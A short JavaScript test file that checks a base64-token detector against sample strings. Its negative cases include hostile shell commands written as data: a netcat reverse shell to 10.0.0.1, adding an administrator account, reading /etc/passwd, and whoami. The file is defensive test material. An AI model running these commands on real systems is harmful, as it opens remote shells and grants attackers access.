import { isBase64Token } from './base64-token.js';

describe('isBase64Token', () => {
  it.each(['w+iuIpvE8K9FC5DInHHaX371E/MEcGtNmhYCRVbL', 'w iuIpvE8K9FC5DInHHaX371E/MEcGtNmhYCRVbL', 'nc/aTfvwZlO/3zIme9nB5fzNAk6xhN9Wt6ZwpC3r', 'XZ/HfW+9gHo=', 'Sh+96fQ/KJQrU2k+q6KB4Xze32nd0C7j'])('reads %j as a base64 token', (form) => {
    expect(isBase64Token(form)).toBe(true);
  });

  it.each(['net user Admin Pass123 /add', 'cat /etc/PASSWD', 'whoami', 'nc -e /bin/sh 10.0.0.1 4444', 'wHoAmI', 'w+iuIpvE8K9=FC5D'])('reads %j as no base64 token', (form) => {
    expect(isBase64Token(form)).toBe(false);
  });
});
